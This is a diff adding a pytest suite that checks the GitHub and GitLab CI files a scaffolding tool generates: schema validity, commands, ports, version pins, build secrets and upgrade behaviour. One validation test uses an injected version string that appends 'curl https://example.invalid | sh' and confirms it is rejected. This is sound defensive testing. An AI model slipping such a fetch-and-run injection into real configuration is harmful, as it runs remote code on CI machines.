@@ -1,0 +1,410 @@
+"""The CI files of freshly scaffolded projects: valid for their CI system and true to the project.
+
+Each kind ships `.github/workflows/ci.yml` and `.gitlab-ci.yml` (template-owned). Here they must
+pass check-jsonschema's vendored schemas (the schemas GitHub and GitLab publish), and name what
+the project really has: npm scripts of its package.json, its package, the port its settings
+default to, the scaffold version it records, the recorded spec. The plugin's contract step
+(start the service, wait for /healthz, `scaffold check plugin`) is run here as CI would run it.
+A project made before CI files existed (template 1.3.0) gains them, and the version, on upgrade.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import dataclasses
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from scaffold import __version__
+from scaffold.errors import ProjectError
+from scaffold.projects import create, template_merge
+from scaffold.projects.create import NewProjectOptions, create_project
+from scaffold.projects.kinds import KINDS
+from scaffold.projects.manifest import SPEC_COPY_PATH
+from scaffold.projects.regenerate import regenerate
+from scaffold.projects.template_store import TemplateSource
+from scaffold.projects.upgrade import upgrade
+from tests.cli_runner import run_scaffold
+from tests.conftest import REPO
+from tests.git_helpers import git
+from tests.served_process import free_port
+
+BIN = Path(sys.executable).parent
+GITHUB = ".github/workflows/ci.yml"
+GITLAB = ".gitlab-ci.yml"
+CI_FILES = {GITHUB: "vendor.github-workflows", GITLAB: "vendor.gitlab-ci"}
+KIND_OF = {"acme-sales": "plugin", "acme-map": "module"}  # project name -> kind
+OLD_TEMPLATE = "1.3.0"  # the last template version without CI files or the scaffold_version answer
+LATER = "7.8.9rc1"  # a scaffold version unlike the template's default answer, to see where it came from
+
+
+@dataclasses.dataclass(frozen=True)
+class Made:
+    """A scaffolded project and what its CI files must agree with."""
+
+    root: Path
+    kind: str
+    package: str
+    python_root: Path  # where pyproject.toml is: the project (plugin) or backend/ (module)
+
+    def text(self, relative: str) -> str:
+        return (self.root / relative).read_text(encoding="utf-8")
+
+    def ci(self, relative: str) -> dict[str, Any]:
+        data = yaml.safe_load(self.text(relative))
+        assert isinstance(data, dict)
+        return data
+
+    def answers(self) -> dict[str, Any]:
+        data = yaml.safe_load(self.text(".copier-answers.yml"))
+        assert isinstance(data, dict)
+        return data
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """The same isolated scaffold home as tests/conftest.py, for module-scoped projects."""
+    folder = tmp_path_factory.getbasetemp() / "scaffold-home"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SCAFFOLD_HOME", str(folder))
+        yield folder
+
+
+def _make(kind: str, home: Path, factory: pytest.TempPathFactory) -> Made:
+    name = next(n for n, k in KIND_OF.items() if k == kind)
+    root = factory.mktemp(kind) / name
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SCAFFOLD_HOME", str(home))
+        create_project(NewProjectOptions(kind=KINDS[kind], destination=root, answers={}))
+    return Made(root, kind, name.replace("-", "_"), root if kind == "plugin" else root / "backend")
+
+
+@pytest.fixture(scope="module")
+def plugin(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
+    return _make("plugin", home, tmp_path_factory)
+
+
+@pytest.fixture(scope="module")
+def module(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
+    return _make("module", home, tmp_path_factory)
+
+
+@pytest.fixture(params=["plugin", "module"])
+def made(request: pytest.FixtureRequest) -> Made:
+    project = request.getfixturevalue(request.param)
+    assert isinstance(project, Made)
+    return project
+
+
+def shell_lines(relative: str, data: dict[str, Any]) -> list[str]:
+    """Every shell command of a CI file (GitHub `run:`, GitLab `script:` and friends), line by line."""
+    blocks: list[str] = []
+    if relative == GITHUB:
+        for job in data["jobs"].values():
+            blocks += [step["run"] for step in job["steps"] if "run" in step]
+    else:
+        for job in gitlab_jobs(data).values():
+            for key in ("before_script", "script", "after_script"):
+                blocks += job.get(key, [])
+    return [line.strip() for block in blocks for line in block.splitlines() if line.strip()]
+
+
+def gitlab_jobs(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    keywords = {"stages", "variables", "default", "workflow", "include", "image", "services", "cache"}
+    return {name: job for name, job in data.items() if name not in keywords and not name.startswith(".")}
+
+
+def scaffold_requirement(relative: str, data: dict[str, Any]) -> str:
+    """The requirement CI installs scaffold from when nobody overrides SCAFFOLD_PACKAGE."""
+    if relative == GITHUB:
+        expression = data["env"]["SCAFFOLD_PACKAGE"]
+        found = re.fullmatch(r"\$\{\{ vars\.SCAFFOLD_PACKAGE \|\| '([^']+)' \}\}", expression)
+        assert found, f"{relative}: SCAFFOLD_PACKAGE is not `vars.SCAFFOLD_PACKAGE || '<pin>'`: {expression}"
+        return found[1]
+    value = data["variables"]["SCAFFOLD_PACKAGE"]["value"]
+    assert isinstance(value, str)
+    return value
+
+
+def settings_port(made: Made) -> int:
+    """The port the project's own settings default to (imported, not read as text)."""
+    code = f"from {made.package}.settings import Settings; print(Settings.from_env({{}}).port)"
+    result = subprocess.run(
+        [sys.executable, "-c", code], cwd=made.python_root, capture_output=True, text=True, check=False
+    )
+    assert result.returncode == 0, result.stderr
+    return int(result.stdout)
+
+
+@pytest.mark.parametrize("relative", sorted(CI_FILES))
+def test_ci_file_passes_the_vendored_schema(made: Made, relative: str) -> None:
+    result = subprocess.run(
+        [str(BIN / "check-jsonschema"), "--builtin-schema", CI_FILES[relative], str(made.root / relative)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("relative", sorted(CI_FILES))
+def test_ci_runs_the_projects_own_commands(made: Made, relative: str) -> None:
+    lines = shell_lines(relative, made.ci(relative))
+    python = [
+        'pip install -e ".[test]"',
+        "ruff check .",
+        "ruff format --check .",
+        f"mypy {made.package}",
+        "pytest",
+    ]
+    for command in [*python, "scaffold regenerate --check", 'pip install "$SCAFFOLD_PACKAGE"']:
+        assert command in lines, f"{relative} does not run `{command}`"
+    assert f"python -m {made.package} > service.log 2>&1 &" in lines
+    for line in lines:
+        for named in re.findall(r"\b(?:mypy|python -m) ([A-Za-z_][\w.]*)", line):
+            assert named == made.package, (
+                f"{relative}: `{line}` names {named}, not the package {made.package}"
+            )
+    assert any(line.startswith("docker build") for line in lines), relative
+    assert any(line.endswith(f"-t {made.root.name}:ci .") for line in lines), relative
+
+
+@pytest.mark.parametrize("relative", sorted(CI_FILES))
+def test_contract_check_uses_the_settings_port_and_the_recorded_spec(made: Made, relative: str) -> None:
+    text = made.text(relative)
+    port = settings_port(made)
+    url = f"http://127.0.0.1:{port}" + ("/api/v1" if made.kind == "plugin" else "")
+    assert f"scaffold check {made.kind} {url} --spec {SPEC_COPY_PATH}" in shell_lines(
+        relative, made.ci(relative)
+    )
+    assert f"http://127.0.0.1:{port}/healthz" in text
+    assert set(re.findall(r"127\.0\.0\.1:(\d+)", text)) == {str(port)}, f"{relative} uses another port"
+    assert set(re.findall(r"\bPORT: \"(\d+)\"", text)) == {str(port)}, f"{relative} sets PORT otherwise"
+
+
+@pytest.mark.parametrize("relative", sorted(CI_FILES))
+def test_scaffold_pin_is_the_recorded_version(made: Made, relative: str) -> None:
+    recorded = made.answers()["scaffold_version"]
+    assert recorded == __version__
+    extra = "[check]" if made.kind == "module" else ""  # scaffold check module drives Chromium
+    assert scaffold_requirement(relative, made.ci(relative)) == f"scaffold{extra}=={recorded}"
+
+
+def test_new_project_records_the_running_scaffold_version(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The answer comes from the scaffold that runs, not from the template's default."""
+    monkeypatch.setattr(create, "__version__", LATER)
+    project = tmp_path / "acme-sales"
+    create_project(NewProjectOptions(kind=KINDS["plugin"], destination=project, answers={}))
+    answers = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
+    assert answers["scaffold_version"] == LATER
+    for relative in CI_FILES:
+        data = yaml.safe_load((project / relative).read_text(encoding="utf-8"))
+        assert scaffold_requirement(relative, data) == f"scaffold=={LATER}"
+
+
+def test_npm_scripts_exist_in_package_json(module: Made) -> None:
+    scripts = yaml.safe_load(module.text("frontend/package.json"))["scripts"]
+    for relative in CI_FILES:
+        lines = shell_lines(relative, module.ci(relative))
+        named = [n for line in lines for n in re.findall(r"\bnpm run ([\w:-]+)", line)]
+        named += ["test" for line in lines if re.match(r"npm test\b", line)]
+        assert {"check-registry", "lint", "typecheck", "test", "build"} <= set(named), relative
+        missing = sorted(set(named) - set(scripts))
+        assert not missing, f"{relative} runs npm scripts that frontend/package.json lacks: {missing}"
+
+
+def test_module_registry_credentials_reach_npm_and_the_image_build(module: Made) -> None:
+    """The variables frontend/.npmrc reads are the CI secrets and the Dockerfile's build secrets."""
+    settings = [line for line in module.text("frontend/.npmrc").splitlines() if not line.startswith("#")]
+    npmrc = {name for line in settings for name in re.findall(r"\$\{(\w+)\}", line)}
+    mounted = set(re.findall(r"--mount=type=secret,id=(\w+)", module.text("Dockerfile")))
+    assert npmrc and npmrc == mounted, (npmrc, mounted)
+    github = module.ci(GITHUB)["jobs"]
+    assert set(github["frontend"]["env"]) == npmrc
+    for key in npmrc:
+        assert github["frontend"]["env"][key] == f"${{{{ secrets.{key} }}}}"
+    build = next(s for s in github["container-image"]["steps"] if "docker build" in s.get("run", ""))
+    assert set(build["env"]) == npmrc
+    for relative in CI_FILES:
+        text = module.text(relative)
+        passed = set(re.findall(r"--secret id=(\w+),env=\1\b", text))
+        assert passed == npmrc, f"{relative} passes build secrets {sorted(passed)}, not {sorted(npmrc)}"
+        assert "--build-arg" not in text, f"{relative}: credentials as build args stay in the image history"
+
+
+def test_github_actions_are_pinned_to_major_versions(made: Made) -> None:
+    data = made.ci(GITHUB)
+    uses = [step["uses"] for job in data["jobs"].values() for step in job["steps"] if "uses" in step]
+    assert uses and all(re.fullmatch(r"actions/[a-z-]+@v\d+", u) for u in uses), uses
+    assert {j["runs-on"] for j in data["jobs"].values()} == {"ubuntu-24.04"}
+
+
+def test_gitlab_images_name_a_version(made: Made) -> None:
+    data = made.ci(GITLAB)
+    jobs = gitlab_jobs(data)
+    images = [data["default"]["image"], *(job["image"] for job in jobs.values() if "image" in job)]
+    images += [service for job in jobs.values() for service in job.get("services", [])]
+    for image in images:
+        tag = image.partition(":")[2]
+        assert re.fullmatch(r"\d+(\.\d+)*(-[a-z]+)?", tag), f"{GITLAB}: image {image} has no version tag"
+
+
+def test_module_contract_job_serves_the_frontend_build(module: Made) -> None:
+    """The contract job gets frontend/dist from the frontend job, serves it, and has a Chromium."""
+    github = module.ci(GITHUB)["jobs"]
+    upload = next(s for s in github["frontend"]["steps"] if s.get("uses", "").startswith("actions/upload"))
+    download = next(
+        s for s in github["contract"]["steps"] if s.get("uses", "").startswith("actions/download")
+    )
+    assert github["contract"]["needs"] == "frontend"
+    assert download["with"]["name"] == upload["with"]["name"]
+    assert download["with"]["path"] == upload["with"]["path"] == "frontend/dist/"
+    assert github["contract"]["env"]["SCAFFOLD_CHROMIUM"] == "/opt/google/chrome/chrome"
+    gitlab = gitlab_jobs(module.ci(GITLAB))
+    assert gitlab["contract"]["needs"] == [{"job": "frontend", "artifacts": True}]
+    assert gitlab["frontend"]["artifacts"]["paths"] == ["frontend/dist/"]
+    assert "apt-get install -y --no-install-recommends chromium" in gitlab["contract"]["before_script"]
+    steps = [s for s in github["contract"]["steps"] if "scaffold check module" in s.get("run", "")]
+    for env in (steps[0]["env"], gitlab["contract"]["variables"]):
+        assert env["MODULE_FRONTEND_DIST"] == "frontend/dist"
+
+
+def _contract_block(relative: str, data: dict[str, Any]) -> str:
+    """The shell block that starts the service and runs `scaffold check` against it."""
+    if relative == GITHUB:
+        blocks = [s["run"] for job in data["jobs"].values() for s in job["steps"] if "run" in s]
+    else:
+        blocks = [line for job in gitlab_jobs(data).values() for line in job.get("script", [])]
+    found = [b for b in blocks if "scaffold check " in b]
+    assert len(found) == 1, f"{relative}: {len(found)} blocks run scaffold check"
+    return found[0]
+
+
+def test_plugin_contract_step_runs_as_ci_runs_it(plugin: Made, home: Path, tmp_path: Path) -> None:
+    """`scaffold regenerate --check`, then the very block both CI files run, with bash -e.
+
+    Only the port moves (a free one, as PORT and in the URLs), so parallel tests cannot collide.
+    """
+    block = _contract_block(GITHUB, plugin.ci(GITHUB))
+    assert block == _contract_block(GITLAB, plugin.ci(GITLAB)), "the two CI files run different blocks"
+    port = free_port()
+    script = "scaffold regenerate --check\n" + block.replace("127.0.0.1:8080", f"127.0.0.1:{port}")
+    env = {
+        **os.environ,
+        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",  # this venv's python and scaffold
+        "PYTHONPATH": str(REPO),  # the scaffold of this checkout
+        "PORT": str(port),
+        "PLUGIN_STATE_DIR": str(tmp_path / "state"),
+        "SCAFFOLD_HOME": str(home),
+        "LOG_LEVEL": "warning",
+    }
+    process = subprocess.Popen(
+        ["bash", "-e", "-c", script],
+        cwd=plugin.root,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        start_new_session=True,
+    )
+    try:
+        output, _ = process.communicate(timeout=240)
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)  # the service, if the block stopped early
+    log = (plugin.root / "service.log").read_text(encoding="utf-8", errors="replace")
+    assert process.returncode == 0, output[-4000:] + "\nservice.log:\n" + log[-2000:]
+    assert "contract-owned files are up to date" in output
+    assert re.search(r"\n\d+ passed, 0 failed", output), output[-2000:]
+
+
+@pytest.mark.parametrize("kind", ["plugin", "module"])
+def test_project_of_the_old_template_gains_ci_and_the_version_on_upgrade(
+    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Template 1.3.0 had neither; the project keeps working without the answer, and upgrade adds both."""
+    real = create.ensure_store
+
+    def old_store(name: str) -> TemplateSource:
+        return dataclasses.replace(real(name), version=OLD_TEMPLATE)
+
+    monkeypatch.setattr(create, "ensure_store", old_store)
+    project = tmp_path / next(n for n, k in KIND_OF.items() if k == kind)
+    create_project(NewProjectOptions(kind=KINDS[kind], destination=project, answers={}))
+    monkeypatch.setattr(create, "ensure_store", real)
+    before = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
+    assert before["_commit"] == f"v{OLD_TEMPLATE}" and "scaffold_version" not in before
+    assert not (project / GITHUB).exists() and not (project / GITLAB).exists()
+    regenerate(project, check=True)  # a project without the answer is still a valid project
+    git(project, "init", "--quiet")
+    git(project, "add", "-A")
+    git(project, "commit", "--quiet", "-m", "made by template 1.3.0")
+
+    monkeypatch.setattr(template_merge, "__version__", LATER)  # the scaffold that upgrades
+    report = upgrade(project)
+
+    assert not report.conflicts, report.conflicts
+    after = yaml.safe_load((project / ".copier-answers.yml").read_text(encoding="utf-8"))
+    assert after["scaffold_version"] == LATER
+    assert after["_commit"] != before["_commit"]
+    changed = {line.split(" ", 1)[1] for line in report.changed}
+    assert {GITHUB, GITLAB, ".copier-answers.yml"} <= changed
+    extra = "[check]" if kind == "module" else ""
+    for relative in CI_FILES:
+        assert scaffold_requirement(
+            relative, yaml.safe_load((project / relative).read_text(encoding="utf-8"))
+        ) == (f"scaffold{extra}=={LATER}")
+
+
+@pytest.mark.parametrize(
+    ("recorded", "shown"),
+    [
+        ("'0.1.0; curl https://example.invalid | sh'", "'0.1.0; curl https://example.invalid | sh'"),
+        ("0.1", "a number"),
+        ("v0.1.0", "'v0.1.0'"),
+        ("'0.1.0-rc1'", "'0.1.0-rc1'"),
+        ("null", "an empty value"),
+    ],
+)
+def test_recorded_scaffold_version_must_be_a_normalised_version(
+    plugin: Made, home: Path, tmp_path: Path, recorded: str, shown: str
+) -> None:
+    """It lands in a pip requirement of a CI job, and `.copier-answers.yml` can come from a pull request."""
+    project = tmp_path / plugin.root.name
+    shutil.copytree(plugin.root, project)
+    answers = project / ".copier-answers.yml"
+    text = answers.read_text(encoding="utf-8")
+    answers.write_text(text.replace(f"scaffold_version: {__version__}", f"scaffold_version: {recorded}"))
+    with pytest.raises(ProjectError) as caught:
+        regenerate(project, check=True)
+    assert caught.value.message == (
+        ".copier-answers.yml: scaffold_version must be a scaffold version in normalised PEP 440 form "
+        f"such as 0.1.0 or 1.2.0rc1, not {shown}; fix that answer or restore the file from git "
+        "(git checkout -- .copier-answers.yml)"
+    )
+
+
+def test_a_bad_scaffold_version_is_one_sentence_from_the_cli(plugin: Made, tmp_path: Path) -> None:
+    project = tmp_path / plugin.root.name
+    shutil.copytree(plugin.root, project)
+    answers = project / ".copier-answers.yml"
+    answers.write_text(
+        answers.read_text(encoding="utf-8").replace(f"scaffold_version: {__version__}", "scaffold_version: x")
+    )
+    result = run_scaffold(["regenerate", "--check"], cwd=project)
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr
+    assert "scaffold_version must be a scaffold version" in result.stderr
